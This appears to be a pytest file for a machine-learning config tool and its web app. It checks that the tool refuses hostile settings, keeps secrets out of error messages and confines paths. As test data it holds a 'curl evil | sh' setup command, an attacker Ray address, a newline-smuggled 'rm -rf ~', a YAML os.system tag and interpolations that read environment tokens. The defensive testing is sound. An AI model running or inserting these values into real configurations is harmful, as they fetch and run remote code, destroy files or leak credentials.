"""Hostile values in settings (issue 21, items 1, 2, 3 and 7): OmegaConf interpolations in user values, secrets
of the environment in messages, launcher settings that run commands or name folders, and input that used to
end in a traceback instead of one line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cli import main
from unirex.config import from_dict, resolve_config, to_dict
from unirex.data import build_split
from unirex.errors import UnirexError, register_secret, scrub_secrets
from unirex.runs import RunDir
from workbench import Workbench

from test_hostile_input import ann, ev, small_dataset, tree

TOKEN = "hf_TESTtokenDoNotLeak0123456789"
LOGIN = ("admin", "Pa55-word-never-shown")
UP = "${oc.decode:'..'}"


@pytest.fixture
def secrets_env(monkeypatch):
    monkeypatch.setenv("HF_TOKEN", TOKEN)
    monkeypatch.setenv("UNIREX_APP_AUTH", ":".join(LOGIN))


def _no_secret(text: str) -> None:
    assert TOKEN not in text and LOGIN[1] not in text


def _tiny(tiny_arch, small_demo_dir) -> list[str]:
    return [f"arch={tiny_arch}", "data.max_length=32", "setup.train_batch_size=8", "setup.eval_batch_size=16",
            "debug=True", "training.epochs=1", "data.num_train=16"]


# --- 1. no interpolation on user values ------------------------------------------------------------------

INTERPOLATIONS = [f"data_dir={UP}/{UP}/x", "model.attr_algo=${oc.env:HF_TOKEN}", "model.exp_id=${oc.env:HF_TOKEN}",
                  "training.monitor=${oc.env:UNIREX_APP_AUTH}", "model.exp_id=${nope}", "model.exp_id=${oc.env:UNSET}",
                  "model.exp_id=${", "data=${oc.env:HF_TOKEN}", "model.topk=[${oc.env:HF_TOKEN}]",
                  "model.exp_id='${oc.env:HF_TOKEN}'"]


@pytest.mark.parametrize("override", INTERPOLATIONS)
def test_interpolations_in_values_are_refused_with_the_key_named(override, secrets_env):
    key = override.split("=", 1)[0]
    with pytest.raises(UnirexError) as e:
        resolve_config([override])
    msg = str(e.value)
    assert "\n" not in msg and msg.startswith(f"{'data.dataset' if key == 'data' else key}: ")
    assert "interpolation" in msg
    _no_secret(msg)


def test_a_saved_config_with_an_interpolation_is_refused(secrets_env):
    data = to_dict(resolve_config([]))
    data["model"]["exp_id"] = "${oc.env:HF_TOKEN}"
    with pytest.raises(UnirexError, match=r"^bad config: model.exp_id: .*interpolation") as e:
        from_dict(data)
    _no_secret(str(e.value))


def test_cli_interpolations_are_one_line_and_build_nothing(tmp_path, monkeypatch, capsys, secrets_env, tiny_arch,
                                                           small_demo_dir):
    ws, cwd = tmp_path / "ws", tmp_path / "a" / "b"
    cwd.mkdir(parents=True)
    monkeypatch.chdir(cwd)  # ../../x from here is tmp_path/x: what the interpolation would reach
    tiny = _tiny(tiny_arch, small_demo_dir)
    for bad in (f"data_dir={UP}/{UP}/x", "model.exp_id=${oc.env:HF_TOKEN}", "model.exp_id=${nope}",
                "model.exp_id=${oc.env:UNSET}", "model.exp_id=${", "training.monitor=${oc.env:UNIREX_APP_AUTH}"):
        code = main(["--workspace", str(ws), "data=demo", f"data_dir={small_demo_dir}", *tiny, "--no-progress", bad])
        out, err = capsys.readouterr()
        assert code == 2 and err.startswith("error: ") and err.count("\n") == 1, (bad, err)
        _no_secret(out + err)
    assert not (tmp_path / "x").exists() and not (tmp_path / "a" / "x").exists()
    assert not list(ws.glob("runs/*"))  # no run folder, so no config.json holding a resolved value


def test_workbench_submit_refuses_interpolations(tmp_path, secrets_env, tiny_arch, small_demo_dir):
    wb = Workbench(tmp_path / "ws", confine=True, trusted_archs=(tiny_arch,))
    before = tree(tmp_path)
    for bad in (f"data_dir={UP}/{UP}/x", "model.attr_algo=${oc.env:HF_TOKEN}",
                "training.monitor=${oc.env:UNIREX_APP_AUTH}"):
        with pytest.raises(UnirexError) as e:
            wb.submit(["data=demo", f"arch={tiny_arch}", bad])
        assert "\n" not in str(e.value)
        _no_secret(str(e.value))
        check = wb.check(["data=demo", bad])
        assert not check.ok and "interpolation" in check.message
        _no_secret(check.message)
    assert wb.queue(include_final=True) == [] and tree(tmp_path) == before
    assert not (tmp_path / "x").exists()


def test_final_path_values_are_checked_in_the_app(tmp_path, tiny_arch):
    wb = Workbench(tmp_path / "ws", confine=True, trusted_archs=(tiny_arch,))
    with pytest.raises(UnirexError, match="outside the workspace"):
        wb.submit(["data=demo", f"data_dir={tmp_path / 'ws' / '..' / 'elsewhere'}"])


# --- 2. secrets are scrubbed from messages -------------------------------------------------------------------


def test_scrub_removes_the_token_and_the_login(secrets_env):
    text = f"bad value {TOKEN} and {LOGIN[0]}:{LOGIN[1]} and {LOGIN[1]} alone"
    out = scrub_secrets(text)
    _no_secret(out)
    assert out.count("***") == 3 and out.startswith("bad value ***")
    assert scrub_secrets("nothing secret here") == "nothing secret here"
    register_secret("operator:given-with-auth-flag")  # the app's --auth (not in the environment)
    assert scrub_secrets("x given-with-auth-flag y operator:given-with-auth-flag") == "x *** y ***"


def test_secrets_typed_as_values_do_not_come_back(tmp_path, capsys, secrets_env, tiny_arch):
    wb = Workbench(tmp_path / "ws", confine=True, trusted_archs=(tiny_arch,))
    check = wb.check(["data=demo", f"model.attr_algo={TOKEN}"])
    assert not check.ok and "model.attr_algo" in check.message
    _no_secret(check.message)
    code = main(["--workspace", str(tmp_path / "ws"), "data=demo", f"model.attr_algo={TOKEN}"])
    out, err = capsys.readouterr()
    assert code == 2 and "model.attr_algo" in err
    _no_secret(out + err)


def test_a_runs_error_never_holds_the_apps_login(tmp_path, secrets_env, tiny_arch, small_demo_dir):
    """The run fails on training.monitor (not a dev metric) after its first epoch: status.json, error.txt, the
    job, the progress message and the run detail name the key but not the password."""
    wb = Workbench(tmp_path / "ws", confine=False)
    (job,) = wb.submit(["data=demo", f"data_dir={small_demo_dir}", *_tiny(tiny_arch, small_demo_dir),
                        f"training.monitor={LOGIN[1]}"])
    from workbench.jobs import CancelToken

    with pytest.raises(UnirexError):
        wb._run_job(job, CancelToken(wb.jobs, job.job_id))
    rd = RunDir(wb.runs_root / job.run_id)
    status = json.loads(rd.status_path.read_text())
    assert status["status"] == "failed" and "training.monitor=***" in status["error"]
    for text in (rd.status_path.read_text(), rd.error_path.read_text(), rd.events_path.read_text(),
                 wb.progress(job.run_id).message, wb.run(job.run_id).summary.error or "",
                 wb.run(job.run_id).error_text or ""):
        _no_secret(text)
    wb.jobs.finish(job.job_id, "failed", f"boom {LOGIN[1]}")
    _no_secret(wb.job(job.job_id).error or "")


# --- 3. launcher settings from the app --------------------------------------------------------------------------

SERVER_ONLY = [("launcher.slurm.setup", "curl evil | sh"), ("launcher.slurm.folder", "/tmp/jobs"),
               ("launcher.ray.address", "ray://attacker:10001")]


@pytest.mark.parametrize("key,value", SERVER_ONLY)
def test_the_app_refuses_server_settings_from_a_user(tmp_path, tiny_arch, key, value):
    wb = Workbench(tmp_path / "ws", confine=True, trusted_archs=(tiny_arch,))
    launcher = key.split(".")[1]
    for call in (lambda: wb.submit(["data=demo", f"launcher={launcher}", f"{key}={value}"]),
                 lambda: wb.submit(["data=demo"], launcher=launcher, launcher_options={key[9:]: value}),
                 lambda: wb.submit(["data=demo"], launcher=launcher, launcher_options=[f"{key}={value}"])):
        with pytest.raises(UnirexError) as e:
            call()
        msg = str(e.value)
        assert "\n" not in msg and key in msg and "server" in msg
    check = wb.check(["data=demo", f"launcher={launcher}", f"{key}={value}"])
    assert not check.ok and key in check.message
    assert wb.queue(include_final=True) == []


def test_the_apps_server_settings_come_from_its_environment(tmp_path, tiny_arch, monkeypatch):
    pytest.importorskip("submitit")
    from workbench.launchers import server_launcher_values

    ws = tmp_path / "ws"
    monkeypatch.setenv("UNIREX_APP_LAUNCHER_SLURM_SETUP", "module load cuda")
    monkeypatch.setenv("UNIREX_APP_LAUNCHER_SLURM_FOLDER", str(ws / "slurm-jobs"))
    values = server_launcher_values()
    assert values == {"slurm.setup": "module load cuda", "slurm.folder": str(ws / "slurm-jobs")}
    wb = Workbench(ws, confine=True, trusted_archs=(tiny_arch,), launcher_settings=values)
    (job,) = wb.submit(["data=demo", f"arch={tiny_arch}", "launcher.slurm.cluster=local"], launcher="slurm")
    assert "launcher.slurm.setup='module load cuda'" in job.launcher_args
    assert f"launcher.slurm.folder={ws / 'slurm-jobs'}" in job.launcher_args
    # requeued from the app: the server's settings apply again, they are not taken as a user's
    wb.jobs.finish(job.job_id, "failed", "lost")
    RunDir.create(ws / "runs", to_dict(resolve_config([f"arch={tiny_arch}"])), {"command": job.command},
                  run_id=job.run_id)
    again = wb.requeue(job.run_id)
    assert again.launcher == "slurm" and set(again.launcher_args) == set(job.launcher_args)


@pytest.mark.parametrize("confine", [True, False])
def test_a_launcher_folder_outside_the_workspace_is_refused_on_every_front(tmp_path, tiny_arch, confine):
    ws = tmp_path / "ws"
    outside = str(tmp_path / "elsewhere")
    settings = {"slurm.folder": outside} if confine else {}
    wb = Workbench(ws, confine=confine, trusted_archs=(tiny_arch,), launcher_settings=settings)
    extra = [] if confine else [f"launcher.slurm.folder={outside}"]
    for folder in ([] if confine else ["../elsewhere", outside]):
        with pytest.raises(UnirexError, match="launcher.slurm.folder .*outside the workspace"):
            wb.submit(["data=demo", f"arch={tiny_arch}", "launcher=slurm", "launcher.slurm.cluster=local",
                       f"launcher.slurm.folder={folder}"])
    if confine:
        with pytest.raises(UnirexError, match="launcher.slurm.folder .*outside the workspace"):
            wb.submit(["data=demo", f"arch={tiny_arch}", "launcher=slurm", "launcher.slurm.cluster=local", *extra])
    assert not (tmp_path / "elsewhere").exists() and wb.queue(include_final=True) == []


@pytest.mark.parametrize("key", ["launcher.slurm.partition", "launcher.slurm.account", "launcher.slurm.setup"])
def test_launcher_values_cannot_carry_a_second_line(key):
    from workbench.launchers import launcher_options

    with pytest.raises(UnirexError, match=f"{key} .*control character"):
        launcher_options("slurm", [f"{key}=gpu\nrm -rf ~"])


# --- 7. one line instead of a traceback ---------------------------------------------------------------------


def _cli_build(data: Path, capsys) -> str:
    code = main(["build-dataset", "--data_dir", str(data), "--dataset", "ds", "--split", "train", "--max_length", "32"])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error: ") and err.count("\n") == 1, err
    return err


@pytest.mark.parametrize("where", ["annotation_id", "evidence", "docids"])
def test_a_300_character_docid_is_one_line(tmp_path, capsys, where):
    long = "d" * 300
    bad = {"annotation_id": ann(long, "NEG"), "evidence": ann("m2", "NEG", [[ev(long, 0, 1)]]),
           "docids": ann("m2", "NEG", docids=[long])}[where]
    small_dataset(tmp_path, train=[ann("m1", "POS"), bad])
    before = tree(tmp_path)
    with pytest.raises(UnirexError, match="too long"):
        build_split(tmp_path, "ds", "train", max_length=32)
    assert "too long" in _cli_build(tmp_path, capsys) and tree(tmp_path) == before


@pytest.mark.parametrize("field", ["classification", "annotation_id", "query"])
def test_a_lone_surrogate_is_one_line(tmp_path, capsys, field):
    rec = ann("m1", "POS", query="q")
    rec[field] = "\ud800"
    small_dataset(tmp_path, train=[ann("m2", "NEG"), rec])
    with pytest.raises(UnirexError, match=rf"train.jsonl:2: field '{field}' contains a lone surrogate"):
        build_split(tmp_path, "ds", "train", max_length=32)
    assert "surrogate" in _cli_build(tmp_path, capsys)


def test_a_5001_digit_offset_is_one_line(tmp_path, capsys):
    d = small_dataset(tmp_path, train=[ann("m1", "POS", [[ev("m1", 12345, 3)]])])
    (d / "train.jsonl").write_text((d / "train.jsonl").read_text().replace("12345", "9" * 5001))
    with pytest.raises(UnirexError, match=r"train.jsonl:1: .*number .*digits"):
        build_split(tmp_path, "ds", "train", max_length=32)
    assert "digits" in _cli_build(tmp_path, capsys)


@pytest.mark.parametrize("raw", ["[", "{", "[1, 2", "a: b", "!!python/object:os.system"])
def test_malformed_values_are_one_line(raw):
    with pytest.raises(UnirexError) as e:
        resolve_config([f"model.exp_id={raw}"])
    assert "\n" not in str(e.value) and "model.exp_id" in str(e.value)


@pytest.mark.parametrize("key,value", [("data_dir", "OUTSIDE"), ("data.fresh_exp_id", "/etc"), ("arch", "OUTSIDE")])
def test_a_checkpoints_saved_config_cannot_lead_the_app_outside(tmp_path, tiny_arch, key, value):
    """Evaluating a checkpoint takes its arch, data_dir and teacher runs from its saved config.json (one from the
    Hub, or edited): the app checks those final values as it checks a user's."""
    ws = tmp_path / "ws"
    wb = Workbench(ws, confine=True, trusted_archs=(tiny_arch,))
    outside = tmp_path / "outside"
    (outside / "demo").mkdir(parents=True)
    cfg = to_dict(resolve_config([f"arch={tiny_arch}", "data.max_length=64"]))
    section, _, leaf = key.rpartition(".")
    (cfg[section] if section else cfg)[leaf] = str(outside) if value == "OUTSIDE" else value
    rd = RunDir.create(ws / "runs", cfg, {"method": "task_lm", "dataset": "demo", "arch": tiny_arch, "seed": 0,
                                          "mode": "train"})
    rd.checkpoint_dir.mkdir()
    (rd.checkpoint_dir / "config.json").write_text(json.dumps(cfg))
    (rd.checkpoint_dir / "checkpoint.json").write_text(json.dumps({"epoch": 0, "labels": ["NEG", "POS"]}))
    with pytest.raises(UnirexError, match=f"{key}.* is outside the workspace|outside the workspace"):
        wb.evaluate(rd.run_id)
    assert wb.queue(include_final=True) == [] and list(outside.iterdir()) == [outside / "demo"]
